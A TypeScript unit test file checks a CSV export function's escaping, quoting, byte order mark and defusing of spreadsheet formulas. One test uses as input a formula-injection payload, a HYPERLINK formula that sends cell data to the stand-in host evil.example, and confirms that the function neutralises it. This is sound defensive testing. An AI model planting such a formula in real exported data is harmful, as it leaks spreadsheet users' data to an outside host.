import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CSV_BOM, csvCell, toCsv } from '../../src/wall/csv.ts';

/** Reads CSV back as RFC 4180 says (quoted cells, doubled quotes, CRLF rows): the inverse a spreadsheet applies. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  return rows;
}

describe('a cell of an export opened in a spreadsheet', () => {
  it('defuses a first name written as a formula', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")')).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Cliquez"")"`);
  });

  it('defuses every character a spreadsheet starts a formula with', () => {
    expect(csvCell('+1+1')).toBe("'+1+1");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves ordinary text alone, and quotes only what must be', () => {
    expect(csvCell('Zoë')).toBe('Zoë');
    expect(csvCell('2026-11-20')).toBe('2026-11-20');
    expect(csvCell('Café Rouge, Montréal')).toBe('"Café Rouge, Montréal"');
    expect(csvCell('Elle a dit « merci »\net souri')).toBe('"Elle a dit « merci »\net souri"');
    expect(csvCell('A "good" one')).toBe('"A ""good"" one"');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(42)).toBe('42');
  });

  it('writes rows ended by CRLF that read back to the same cells (a formula keeps only its apostrophe)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'grapheme', maxLength: 12 }), { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 5 }),
        (rows) => {
          const back = parseCsv(toCsv(rows));
          const expected = rows.map((row) => row.map((cell) => (/^[=+\-@\t\r]/.test(cell) ? `'${cell}` : cell)));
          expect(back).toEqual(expected);
        },
      ),
    );
  });

  it('starts a file with a byte order mark so spreadsheet apps read UTF-8', () => {
    expect(CSV_BOM).toBe('\uFEFF');
    expect(Buffer.from(CSV_BOM, 'utf8')).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
  });
});
